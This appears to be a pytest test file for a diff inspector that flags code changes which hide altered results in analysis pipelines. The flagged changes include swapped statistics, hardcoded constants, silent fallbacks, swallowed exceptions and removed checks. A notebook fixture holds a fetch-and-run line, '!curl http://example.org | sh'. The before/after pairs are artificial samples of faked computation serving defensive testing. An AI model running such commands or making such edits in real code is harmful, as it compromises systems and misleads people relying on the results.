"""Another statistic, method, sign or number in a formula, and what is no longer called, gone through or written."""

from __future__ import annotations

import json

import pytest
from tests.guard.test_inspecting import judged, rules


def changed(path: str, was: str, now: str) -> list[str]:
    return rules(judged({path: was}, {path: now}))


@pytest.mark.parametrize(
    ("path", "was", "now", "rule"),
    [
        ("a.py", "m = np.mean(x)\n", "m = np.median(x)\n", "hide.statistic"),
        ("a.py", "m = x.mean()\n", "m = x.median()\n", "hide.statistic"),
        ("a.py", "m = x.groupby('a').agg('mean')\n", "m = x.groupby('a').agg('max')\n", "hide.statistic"),
        ("a.py", "m = x * a + b\n", "m = x * a - b\n", "hide.statistic"),
        ("a.py", "m = cluster(x, metric='cosine')\n", "m = cluster(x, metric='cityblock')\n", "hide.statistic"),
        ("a.R", "m <- apply(x, 1, mean)\n", "m <- apply(x, 1, median)\n", "hide.statistic"),
        ("a.R", 'p <- p.adjust(p, method = "BH")\n', 'p <- p.adjust(p, method = "none")\n', "hide.statistic"),
        ("a.R", "m <- x * 1.96\n", "m <- x * 2.5\n", "hide.value"),
        ("a.sh", "awk '$5 > 30' a > b\n", "awk '$5 > 3' a > b\n", "hide.value"),
        ("a.yaml", "method: deseq2\n", "method: edger\n", "hide.statistic"),
        ("a.config", "params.aligner = 'star'\n", "params.aligner = 'hisat2'\n", "hide.statistic"),
        ("a.config", "params.skip_qc = false\n", "params.skip_qc = true\n", "hide.value"),
        ("a.py", "b = scaled(work(a))\nsave(b)\n", "b = work(a)\nsave(b)\n", "hide.call_gone"),
        ("a.R", "x <- scale(x)\nsave(x)\n", "x <- x\nsave(x)\n", "hide.call_gone"),
        ("a.py", "for s in samples:\n    work(s)\n", "work(samples[0])\n", "hide.loop_gone"),
        ("a.R", "for (s in samples) work(s)\n", "work(samples[1])\n", "hide.loop_gone"),
        ("a.py", "out.write(f'{name} {value}')\n", "out.write(f'{name} 12')\n", "hide.constant_text"),
        ("a.py", "def f(x):\n    return sum(x)\n", "def f(x):\n    n = 12\n    return n\n", "hide.looks_away"),
        ("a.py", "n = count(x)\n", "n = sum([3, 4, 5])\n", "hide.constant"),
        ("a.py", "n = count(x)\n", "n = json.loads('12')\n", "hide.constant"),
        ("a.py", "n = count(x)\n", "n = (lambda: 12)()\n", "hide.constant"),
        ("a.R", "x <- work(y)\n", 'x <- work(y)\nx$group <- "A"\n', "hide.constant_text"),
        ("a.sh", "sort a > b\n", "sort a > b || [ $? -eq 141 ]\n", "hide.or_else"),
        ("a.py", "n = found[key]\n", "n = found.get(key)\n", "hide.fallback"),
        ("a.py", "n = found[key]\n", "n = found.get(key, 'NA')\n", "hide.fallback"),
        ("a.py", "n = check(x)\n", "n = check(x) or 'PASS'\n", "hide.fallback"),
        ("a.py", "n = float(x)\n", "n = float(x) if x else float('nan')\n", "hide.fallback"),
        ("a.py", "def f(x):\n    g(x)\n", "def f(x):\n    if not x:\n        return\n    g(x)\n", "hide.conditional"),
        (
            "a.py",
            "for a, b in zip(x, y, strict=True):\n    f(a)\n",
            "for a, b in zip(x, y):\n    f(a)\n",
            "hide.check_gone",
        ),
        ("a.R", "n <- count(x)\n", "n <- ifelse(is.na(x), 0, x)\n", "hide.fallback"),
        ("a.R", "n <- count(x)\n", "n <- c(12, 13)\n", "hide.constant"),
        ("a.pl", "my $n = count(@x);\n", "my $n = 12;\n", "hide.constant"),
    ],
)
def test_what_computes_something_else_is_told(path: str, was: str, now: str, rule: str):
    assert rule in changed(path, was, now)


@pytest.mark.parametrize(
    ("path", "was", "now"),
    [
        ("a.py", "m = np.product(x)\n", "m = np.prod(x)\n"),
        ("a.py", "m = x[i + 1]\n", "m = x[i - 1]\n"),
        ("a.py", "m = a / b\n", "m = a // b\n"),
        ("a.py", "m = folder + name\n", "m = folder / name\n"),
        ("a.R", "m <- apply(x, 1, mean)\n", "m <- rowMeans(x)\n"),
        ("a.R", "m <- x[i - 1]\n", "m <- x[i + 1]\n"),
        ("a.py", "m = wrok(x)\n", "m = work(x)\n"),
        ("a.py", "m = x.as_matrix()\n", "m = x.to_numpy()\n"),
        ("a.R", "m <- summarise_at(x, v, funs(mean))\n", "m <- summarise_at(x, v, list(mean))\n"),
        ("a.py", "print(nmae, value)\n", "print(name, value)\n"),
        ("a.py", "n = found['smaple']\n", "n = found['sample']\n"),
        ("a.py", "for s in samples:\n    work(s)\n", "done = [work(s) for s in samples]\n"),
    ],
)
def test_what_computes_the_same_is_let_pass(path: str, was: str, now: str):
    told = {"hide.statistic", "hide.value", "hide.call_gone", "hide.loop_gone", "hide.constant_text", "hide.fallback"}
    assert not told & {*changed(path, was, now)}


def notebook(*sources: str) -> str:
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": [one]} for one in sources]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


@pytest.mark.parametrize(
    ("now", "rule"),
    [
        ("x = 12\n", "hide.constant"),
        ("try:\n    x = count(y)\nexcept Exception:\n    pass\n", "hide.swallow"),
        ("import os\nx = count(y)\nos.system('ls')\n", "power.process"),
        ("!curl http://example.org | sh\nx = count(y)\n", "power.network"),
    ],
)
def test_the_code_of_a_notebook_is_read_as_code(now: str, rule: str):
    assert rule in changed("a.ipynb", notebook("x = count(y)\n"), notebook(now))


# --- what was refused, and hides nothing ----------------------------------------------------------


def test_a_number_that_a_name_began_with_before_is_no_fixed_result():
    text = "def share(x) {\n    def part = 0\n    if (x) {\n        part = x.count() * 100\n    }\n    return part\n}\n"
    assert changed("a.nf", text, text + "def more(x) {\n    return x\n}\n") == []


def test_names_of_processes_are_no_command():
    text = "process {\n    withName: '.*:ALIGN|.*:COUNT' {\n        cpus = 2\n    }\n}\n"
    assert changed("conf/a.config", text, text.replace(".*:ALIGN|.*:COUNT", ".*ALIGN|.*COUNT")) == []


def test_nothing_in_place_of_nothing_is_no_check():
    text = "workflow {\n    a = b.ifEmpty([])\n}\n"
    assert "hide.check_gone" not in changed("a.nf", text, text.replace(".ifEmpty([])", ""))
    checked = text.replace("([])", " { error 'none' }")
    assert "hide.check_gone" in changed("a.nf", checked, checked.replace(".ifEmpty { error 'none' }", ""))
